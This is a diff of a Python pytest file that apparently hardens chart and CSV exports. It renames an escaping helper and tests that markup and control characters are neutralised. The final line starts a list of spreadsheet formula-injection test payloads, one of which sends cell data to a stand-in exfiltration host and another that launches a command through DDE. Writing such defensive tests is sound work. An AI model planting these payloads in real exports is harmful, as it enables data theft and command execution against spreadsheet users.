@@ -13,7 +13,7 @@ import pytest
 
 from lib.charts.dependencies import concentration_by_stage, dependence_bars, dependence_heatmap, production_map
 from lib.charts.export_controls import live_measures_by_mineral
-from lib.charts.figure import inert, plain, visible
+from lib.charts.figure import inert, escape_plotly_text, visible
 from lib.exports import ViewContext, cell, chart_csv, chart_metadata, table_csv
 from tests.hardening.corpus import MARKUP_TAG
 
@@ -64,7 +64,7 @@ def test_F9_category_order_still_matches_the_escaped_categories(hostile_shares):
 
 @pytest.mark.parametrize("text, expected", [
     ("<b>x</b>", "&lt;b&gt;x&lt;/b&gt;"),
-    ("a &lt; b", "a &lt; b"),  # already escaped by plain(): unchanged
+    ("a &lt; b", "a &lt; b"),  # already escaped by escape_plotly_text(): unchanged
     ("\u202eexe.jpg\u200b", "exe.jpg"),
     ("line\nbreak", "line break"),
 ])
@@ -74,7 +74,7 @@ def test_F9_inert_is_idempotent_and_strips_controls(text, expected):
 
 def test_F9_text_keeps_only_the_line_breaks_the_charts_add():
     assert inert("one<br>two <i>x</i>", keep_breaks=True) == "one<br>two &lt;i&gt;x&lt;/i&gt;"
-    assert plain("<br>") == "&lt;br&gt;"  # a break in data is text, not layout
+    assert escape_plotly_text("<br>") == "&lt;br&gt;"  # a break in data is text, not layout
 
 
 @pytest.mark.parametrize("payload", ['=HYPERLINK("https://exfil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
